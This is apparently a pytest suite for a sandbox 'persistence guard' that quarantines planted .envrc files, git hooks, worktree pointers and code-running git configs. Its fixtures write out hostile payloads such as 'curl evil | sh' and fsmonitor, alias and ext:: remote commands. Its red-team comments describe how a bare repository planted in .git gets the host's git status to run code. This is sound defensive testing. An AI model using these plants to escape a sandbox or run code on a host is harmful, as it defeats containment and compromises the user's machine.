"""The persistence guard (issue 14 §1): what counts as a protected entry, and that
each one created after the guard started is found and quarantined, on the host
file system only (no sandbox needed at this layer)."""

from __future__ import annotations

import fcntl
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from pi_sandbox.sandbox.persistence_guard import (
    PersistenceGuard,
    classify,
    remove_legacy_placeholders,
)


@pytest.fixture
def root(tmp_path: Path) -> Path:
    path = Path(os.path.realpath(tmp_path)) / "ws"
    (path / "src").mkdir(parents=True)
    (path / "src" / "app.py").write_text("print()\n")
    return path


def guard_for(root: Path, tmp_path: Path, **kwargs) -> PersistenceGuard:
    return PersistenceGuard([str(root)], quarantine_dir=str(tmp_path / "q"), **kwargs)


@pytest.mark.parametrize(
    ("rel", "protected"),
    [
        (".envrc", True),
        (".mcp.json", True),
        ("deep/er/.pi", True),
        ("pkg/.git", True),
        (".github", True),
        ("pkg/.github", False),  # only the top of a root matters to CI
        (".bashrc", True),
        ("pkg/.bashrc", False),
        (".git/hooks", True),
        (".git/hooks/pre-commit", True),
        (".git/config", True),
        (".git/info/attributes", True),
        (".git/info/exclude", False),
        (".git/commondir", True),
        (".git/objects/ab/cdef", False),
        (".git/refs/heads/feature", False),
        (".git/index.lock", False),
        (".git/COMMIT_EDITMSG", False),
        (".git/logs/refs/stash", False),
        (".git/worktrees/wt/config.worktree", True),
        (".git/modules/lib/config", True),
        (".git/modules/lib/hooks/post-checkout", True),
        (".git/modules/lib/objects/ab/cd", False),
        ("src/main.py", False),
        ("README.md", False),
    ],
)
def test_classify_names_persistence_paths_and_nothing_ordinary(root, rel, protected):
    assert (classify(str(root / rel), str(root)) is not None) is protected


def test_a_watched_path_is_protected_whatever_its_name(root):
    watched = {str(root / "tools" / "hooks")}
    assert classify(str(root / "tools" / "hooks"), str(root), watched=watched)
    assert classify(str(root / "tools" / "other"), str(root), watched=watched) is None


def test_nothing_that_existed_at_start_is_reported(root, tmp_path):
    (root / ".envrc").write_text("export A=1\n")
    (root / "sub" / ".git").mkdir(parents=True)
    guard = guard_for(root, tmp_path)
    assert guard.check() == []
    assert (root / ".envrc").exists()


def test_new_protected_entries_anywhere_are_moved_to_the_quarantine(root, tmp_path):
    guard = guard_for(root, tmp_path)
    (root / ".envrc").write_text("curl evil | sh\n")
    (root / "src" / "pkg" / ".vscode").mkdir(parents=True)  # in a new directory
    (root / "src" / "pkg" / ".vscode" / "tasks.json").write_text("{}")
    (root / "src" / "ok.py").write_text("")
    findings = guard.check()
    assert {f.path for f in findings} == {
        str(root / ".envrc"),
        str(root / "src" / "pkg" / ".vscode"),
    }
    for finding in findings:
        assert finding.moved_to is not None and os.path.lexists(finding.moved_to)
        assert not os.path.lexists(finding.path)
        assert str(tmp_path / "q") in finding.moved_to
    assert (root / "src" / "ok.py").exists()
    assert guard.check() == []


def test_a_name_made_again_after_its_quarantine_is_quarantined_again(root, tmp_path):
    guard = guard_for(root, tmp_path)
    for _ in range(3):
        (root / ".pi").mkdir()
        [finding] = guard.check()
        assert finding.path == str(root / ".pi") and finding.moved_to
    assert not (root / ".pi").exists()


def test_a_protected_name_made_right_after_the_start_is_not_missed(root, tmp_path):
    # The coarse file-system clock may leave a directory's mtime unchanged by an
    # entry created within the same tick as the listing: recent ones are re-listed.
    guard = guard_for(root, tmp_path)
    info = os.stat(root)
    (root / ".pi").mkdir()
    os.utime(root, ns=(info.st_atime_ns, info.st_mtime_ns))
    assert [f.path for f in guard.check()] == [str(root / ".pi")]


def test_a_replaced_directory_is_walked_again(root, tmp_path):
    guard = guard_for(root, tmp_path)
    os.rename(root / "src", tmp_path / "old-src")
    (root / "src" / ".idea").mkdir(parents=True)
    assert [f.path for f in guard.check()] == [str(root / "src" / ".idea")]


def git(cwd: Path, *args: str) -> None:
    subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@t", *args],
        cwd=cwd,
        check=True,
        capture_output=True,
    )


def test_git_worktree_add_is_kept_and_a_changed_pointer_is_quarantined(root, tmp_path):
    git(root, "init", "-q")
    git(root, "commit", "-q", "--allow-empty", "-m", "init")
    guard = guard_for(root, tmp_path)
    git(root, "worktree", "add", "-q", "wt")
    assert guard.check() == []
    assert (root / "wt" / ".git").is_file()
    # later pointed at a git directory the tool controls: quarantined
    (root / "evil").mkdir()
    (root / "wt" / ".git").write_text(f"gitdir: {root / 'evil'}\n")
    assert [f.path for f in guard.check()] == [str(root / "wt" / ".git")]


def test_a_planted_worktree_config_is_quarantined(root, tmp_path):
    git(root, "init", "-q")
    git(root, "commit", "-q", "--allow-empty", "-m", "init")
    git(root, "worktree", "add", "-q", "wt")
    guard = guard_for(root, tmp_path)
    (root / ".git" / "worktrees" / "wt" / "config.worktree").write_text(
        "[core]\n\tfsmonitor = touch /tmp/x\n"
    )
    assert [f.rule for f in guard.check()] == ["git worktrees/*/config.worktree"]


def test_a_git_file_pointing_outside_the_roots_is_not_accepted(root, tmp_path):
    guard = guard_for(root, tmp_path)
    (root / "pkg").mkdir()
    (root / "pkg" / ".git").write_text(f"gitdir: {tmp_path}/elsewhere/.git/worktrees/x\n")
    assert [f.path for f in guard.check()] == [str(root / "pkg" / ".git")]


def test_legacy_placeholders_are_removed_once_when_no_old_run_is_active(tmp_path):
    base = tmp_path / "state"
    base.mkdir(mode=0o700)
    empty, full = tmp_path / "ws" / ".envrc", tmp_path / "ws" / ".pi"
    empty.mkdir(parents=True)
    full.mkdir()
    (full / "mine").write_text("x")
    (base / "placeholders.json").write_text(json.dumps([str(empty), str(full)]))
    lock = base / "runs.lock"
    lock.touch()
    fd = os.open(lock, os.O_RDWR)
    fcntl.flock(fd, fcntl.LOCK_SH)  # an old run is still active
    try:
        assert remove_legacy_placeholders(str(base)) == []
        assert empty.exists()
    finally:
        os.close(fd)
    assert remove_legacy_placeholders(str(base)) == [str(empty)]
    assert not empty.exists() and (full / "mine").exists()  # never one with content
    assert not (base / "placeholders.json").exists()


def test_a_worktree_git_file_written_before_its_commondir_waits_for_it(root, tmp_path):
    # git worktree add writes worktrees/NAME/gitdir, then the worktree's .git file,
    # then commondir: a check in between must not take git's own files for a plant.
    git(root, "init", "-q")
    guard = guard_for(root, tmp_path)
    admin = root / ".git" / "worktrees" / "wt"
    admin.mkdir(parents=True)
    (admin / "gitdir").write_text(f"{root / 'wt' / '.git'}\n")
    (root / "wt").mkdir()
    (root / "wt" / ".git").write_text(f"gitdir: {admin}\n")
    assert guard.check() == []
    (admin / "commondir").write_text("../..\n")
    assert guard.check() == []
    assert str(root / "wt" / ".git") in guard.accepted


def test_a_config_planted_in_a_worktrees_git_directory_is_quarantined(root, tmp_path):
    git(root, "init", "-q")
    (root / ".git" / "worktrees" / "x").mkdir(parents=True)
    guard = guard_for(root, tmp_path)
    (root / ".git" / "worktrees" / "x" / "config").write_text("[core]\n\tfsmonitor = x\n")
    (root / ".git" / "worktrees" / "x" / "hooks").mkdir()
    assert sorted(f.rule for f in guard.check()) == [
        "git worktrees/*/config",
        "git worktrees/*/hooks",
    ]


def test_a_tree_beyond_the_directory_bound_is_marked_incomplete(root, tmp_path):
    for i in range(5):
        (root / f"d{i}").mkdir()
    assert not guard_for(root, tmp_path, max_directories=3).complete
    assert guard_for(root, tmp_path).complete


def test_a_quarantine_inside_a_writable_root_is_not_quarantined_again(root, tmp_path):
    guard = PersistenceGuard([str(root)], quarantine_dir=str(root / "state" / "quarantine"))
    (root / ".envrc").write_text("x")
    assert len(guard.check()) == 1
    (root / ".pi").mkdir()
    assert [f.path for f in guard.check()] == [str(root / ".pi")]
    assert guard.check() == []


# --- red-team F1: repositories planted during the run --------------------------------

FSMONITOR = (
    '[core]\n\trepositoryformatversion = 0\n\tbare = true\n\tfsmonitor = "touch {s}; false"\n'
)


def test_a_bare_repository_hidden_inside_a_git_directory_and_its_worktree_are_quarantined(
    root, tmp_path
):
    # The red team's F1: clone --bare into .git/x, plant fsmonitor in its config,
    # add a worktree of it: the guard kept both; the host's `git status` ran it.
    git(root, "init", "-q")
    git(root, "commit", "-q", "--allow-empty", "-m", "init")
    guard = guard_for(root, tmp_path)
    git(root, "clone", "-q", "--bare", ".", ".git/x")
    git(root, "--git-dir=.git/x", "worktree", "add", "-q", str(root / "vendor"))
    (root / ".git" / "x" / "config").write_text(FSMONITOR.format(s=tmp_path / "PWNED"))
    paths = {f.path: f.rule for f in guard.check()}
    assert str(root / ".git" / "x") in paths, paths
    assert "not git's own" in paths[str(root / ".git" / "x")]
    assert str(root / "vendor" / ".git") in paths
    assert not (root / ".git" / "x").exists() and not (root / "vendor" / ".git").exists()
    git(root, "status")
    git(root / "vendor", "status")
    assert not (tmp_path / "PWNED").exists()


def test_git_state_entries_a_commit_stash_and_rebase_make_are_not_quarantined(root, tmp_path):
    git(root, "init", "-q")
    git(root, "commit", "-q", "--allow-empty", "-m", "init")
    guard = guard_for(root, tmp_path)
    for name in ("ORIG_HEAD", "FETCH_HEAD", "MERGE_MSG", "BISECT_LOG", "gc.log", "AUTO_MERGE"):
        (root / ".git" / name).write_text("x\n")
    for name in ("rebase-merge", "sequencer", "lfs"):
        (root / ".git" / name).mkdir()
    (root / "a.txt").write_text("a\n")
    git(root, "add", "a.txt")
    git(root, "commit", "-q", "-m", "a")
    git(root, "stash", "list")
    assert guard.check() == []


@pytest.mark.parametrize("name", ["x", "HEAD2", "ORIG_HEAD_dir"])
def test_an_unknown_or_mistyped_top_level_git_entry_is_quarantined(root, tmp_path, name):
    git(root, "init", "-q")
    guard = guard_for(root, tmp_path)
    (root / ".git" / name).mkdir()
    (root / ".git" / "COMMIT_EDITMSG").mkdir()  # a state *file* name as a directory
    assert {f.path for f in guard.check()} == {
        str(root / ".git" / name),
        str(root / ".git" / "COMMIT_EDITMSG"),
    }


def test_a_worktree_of_a_repository_made_during_the_run_is_not_accepted(root, tmp_path):
    git(root, "init", "-q")
    git(root, "commit", "-q", "--allow-empty", "-m", "init")
    guard = guard_for(root, tmp_path)
    git(root, "clone", "-q", "--bare", ".", "src/lib")
    # (the new bare repository's own config is harmless: git clone writes it)
    git(root / "src" / "lib", "worktree", "add", "-q", str(root / "wt"))
    paths = [f.path for f in guard.check()]
    assert str(root / "wt" / ".git") in paths
    assert str(root / "src" / "lib" / "config") not in paths


def test_a_new_bare_repository_whose_config_runs_code_has_that_config_quarantined(root, tmp_path):
    guard = guard_for(root, tmp_path)
    (root / "b").mkdir()
    git(root / "b", "init", "-q", "--bare")
    assert guard.check() == []  # git's own config: kept
    (root / "b" / "config").write_text(FSMONITOR.format(s=tmp_path / "PWNED"))
    [finding] = guard.check()
    assert finding.path == str(root / "b" / "config") and finding.moved_to
    assert "core.fsmonitor" in finding.rule
    subprocess.run(["git", "status"], cwd=root / "b", capture_output=True, check=False)
    assert not (tmp_path / "PWNED").exists()


@pytest.mark.parametrize(
    ("text", "keys"),
    [
        ("[core]\n\tfsmonitor = true\n\tbare = true\n", []),
        ("[alias]\n\tst = status\n\tx = !sh -c id\n", ["alias.x"]),
        (
            '[filter "a"]\n\tclean = ./c\n[diff "d"]\n\ttextconv = t\n',
            ["filter.a.clean", "diff.d.textconv"],
        ),
        ('[includeIf "gitdir:/"]\n\tpath = /tmp/x\n[credential]\n\thelper = !x\n', None),
        ('[remote "o"]\n\turl = ext::sh -c id\n\tfetch = +refs/*:refs/*\n', ["remote.o.url"]),
        ("[core\n", ["unparsable config"]),
        # The second fresh tester's finds: `git archive`, `interpret-trailers`,
        # `imap-send` and `git init` run these.
        (
            '[tar "tgz"]\n\tcommand = touch x; gzip\n[trailer "t"]\n\tcommand = a\n\tcmd = b\n',
            ["tar.tgz.command", "trailer.t.command", "trailer.t.cmd"],
        ),
        ("[imap]\n\ttunnel = sh -c id\n[init]\n\ttemplateDir = /tmp/t\n", None),
    ],
)
def test_config_code_keys_names_what_makes_git_run_code(tmp_path, text, keys):
    from pi_sandbox.sandbox.persistence_guard import config_code_keys

    config = tmp_path / "config"
    config.write_text(text)
    found = config_code_keys(str(config))
    if keys is None:
        assert len(found) == 2, found
    else:
        assert found == keys


def test_the_end_of_run_look_quarantines_a_new_repositorys_code_config(root, tmp_path):
    guard = guard_for(root, tmp_path)
    (root / "d" / ".git").mkdir(parents=True)
    guard.check()  # the .git directory itself is quarantined as a protected name
    (root / "e").mkdir()
    git(root / "e", "init", "-q", "--bare")
    (root / "e" / "config").write_text("[core]\n\tsshCommand = evil\n")
    assert [f.rule for f in guard.check_repository(str(root / "e"))] == [
        "git config of a repository made during the run sets core.sshcommand"
    ]


# --- red-team F9: more persistence names ----------------------------------------------


@pytest.mark.parametrize(
    "rel",
    [
        "sub/.hg",
        "mise.local.toml",
        "sub/.mise.local.toml",
        "sub/.mise.dev.toml",
        "sub/.config/mise",
        "lefthook.yml",
        "sub/.lefthook.yml",
        "Jenkinsfile",
        ".travis.yml",
        "azure-pipelines.yml",
        "bitbucket-pipelines.yml",
        ".buildkite",
        ".gitlab",
    ],
)
def test_tools_that_act_without_being_asked_have_their_names_protected(root, rel):
    assert classify(str(root / rel), str(root)) is not None


@pytest.mark.parametrize("rel", ["Makefile", "package.json", ".npmrc", "sub/Jenkinsfile", "mise"])
def test_files_the_user_runs_on_purpose_are_ordinary(root, rel):
    assert classify(str(root / rel), str(root)) is None


# --- red-team F2: what the guard cannot read ------------------------------------------

AS_NOBODY = r"""
import json, os, sys
from pi_sandbox.sandbox.persistence_guard import PersistenceGuard, config_code_keys
import pi_sandbox.sandbox.profile
os.setresgid(65534, 65534, 65534)
os.setresuid(65534, 65534, 65534)
ws, q, scenario = sys.argv[1:4]
if scenario == "ancestor":
    os.makedirs(os.path.join(ws, "a", "b"))
guard = PersistenceGuard([ws], quarantine_dir=q)
d = os.path.join(ws, "d")
if scenario == "ancestor":
    open(os.path.join(ws, "a", "b", ".envrc"), "w").close()
    os.chmod(os.path.join(ws, "a"), 0o600)
if scenario == "searchless":
    os.mkdir(d)
    os.mkdir(os.path.join(d, ".pi"))
    os.chmod(d, 0o644)
if scenario == "hidden":
    os.mkdir(d)
    os.chmod(d, 0o311)
    for rel in (".envrc", ".pi"):
        open(os.path.join(d, rel), "w").close()
elif scenario == "pinned":
    os.mkdir(d)
    open(os.path.join(d, ".envrc"), "w").close()
    os.chmod(d, 0o111)
elif scenario == "git":
    os.chmod(os.path.join(ws, ".git"), 0o311)
    open(os.path.join(ws, ".git", "commondir"), "w").write("x\n")
findings = guard.check()
print(json.dumps([[f.path, f.rule, f.moved_to, f.error, f.left] for f in findings]))
"""


@pytest.fixture
def nobody_root():
    if os.geteuid() != 0:
        pytest.skip("switching to uid 65534 needs root")
    import shutil
    import tempfile

    base = Path(tempfile.mkdtemp(prefix="pi-guard-", dir="/tmp"))
    os.chmod(base, 0o755)
    ws = base / "ws"
    ws.mkdir()
    (ws / ".git").mkdir()
    (ws / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (base / "q").mkdir()
    for path in (ws, ws / ".git", ws / ".git" / "HEAD", base / "q"):
        os.chown(path, 65534, 65534)
    try:
        yield ws
    finally:
        subprocess.run(["chmod", "-R", "u+rwx", str(base)], check=False)
        shutil.rmtree(base, ignore_errors=True)


def as_nobody(ws: Path, scenario: str, *, open_up: bool = True) -> list[list]:
    """Run scenario ``scenario`` of `AS_NOBODY` in ``ws``; its findings. Without
    ``open_up`` the guard does not give the sandbox's directories their permissions
    back (the protection off)."""
    script = AS_NOBODY
    if not open_up:
        script = AS_NOBODY.replace(
            "guard = PersistenceGuard",
            "import pi_sandbox.sandbox.persistence_guard as g; g._open_up = lambda d: False\n"
            "guard = PersistenceGuard",
        )
    proc = subprocess.run(
        [sys.executable, "-c", script, str(ws), str(ws.parent / "q" / "run"), scenario],
        capture_output=True,
        text=True,
        check=True,
        cwd="/",
    )
    return json.loads(proc.stdout)


def test_a_directory_the_sandbox_made_unlistable_is_opened_and_its_contents_quarantined(
    nobody_root,
):
    findings = as_nobody(nobody_root, "hidden")
    paths = {f[0] for f in findings}
    assert paths == {str(nobody_root / "d" / ".envrc"), str(nobody_root / "d" / ".pi")}
    assert all(f[2] and not f[4] for f in findings)


def test_a_protected_file_in_a_directory_made_read_only_is_still_moved(nobody_root):
    [finding] = as_nobody(nobody_root, "pinned")
    assert finding[0] == str(nobody_root / "d" / ".envrc") and finding[2], finding
    assert not (nobody_root / "d" / ".envrc").exists()


def test_a_commondir_behind_an_unlistable_git_directory_is_caught(nobody_root):
    findings = as_nobody(nobody_root, "git")
    assert [f[0] for f in findings] == [str(nobody_root / ".git" / "commondir")]
    assert not (nobody_root / ".git" / "commondir").exists()


@pytest.mark.parametrize("scenario", ["ancestor", "searchless"])
def test_a_directory_whose_parent_lost_its_search_permission_is_still_checked(
    nobody_root, scenario
):
    [finding] = as_nobody(nobody_root, scenario)
    expected = {"ancestor": "a/b/.envrc", "searchless": "d/.pi"}[scenario]
    assert finding[0] == str(nobody_root / expected) and finding[2], finding
    assert not (nobody_root / expected).exists()


def test_control_without_opening_up_the_directory_hides_its_contents(nobody_root, monkeypatch):
    # The protection off (no chmod u+rwx): the unreadable directory hides .envrc,
    # and only quarantining the directory itself would catch it.
    [finding] = as_nobody(nobody_root, "hidden", open_up=False)
    assert finding[0] == str(nobody_root / "d") and "cannot list" in finding[1]


def test_a_tree_deeper_than_path_max_is_moved_out_whole(root, tmp_path):
    guard = guard_for(root, tmp_path)
    fd = os.open(root, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for _ in range(300):
            os.mkdir("d" * 20, dir_fd=fd)
            child = os.open("d" * 20, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = child
        os.close(os.open(".envrc", os.O_CREAT | os.O_WRONLY, dir_fd=fd))
    finally:
        os.close(fd)
    findings = guard.check()
    assert len(findings) == 1 and "too deep" in findings[0].rule and findings[0].moved_to
    assert not findings[0].left
    # nothing deep is left under the root: the deepest path is below the bound
    longest = max(len(d) for d, _, _ in os.walk(root))
    assert longest < 3900


@pytest.mark.parametrize("scenario", ["ancestor", "searchless"])
def test_an_entry_pi_can_neither_reach_nor_move_is_reported_as_left_never_as_gone(
    nobody_root, scenario
):
    # With the permissions not given back, the guard cannot move what it found:
    # the finding says it is still there (the run then ends with exit 1), instead
    # of taking an unsearchable entry for one that disappeared (red-team F2c).
    [finding] = as_nobody(nobody_root, scenario, open_up=False)
    assert finding[2] is None and finding[4] is True, finding
    assert "could not remove it" in finding[3]
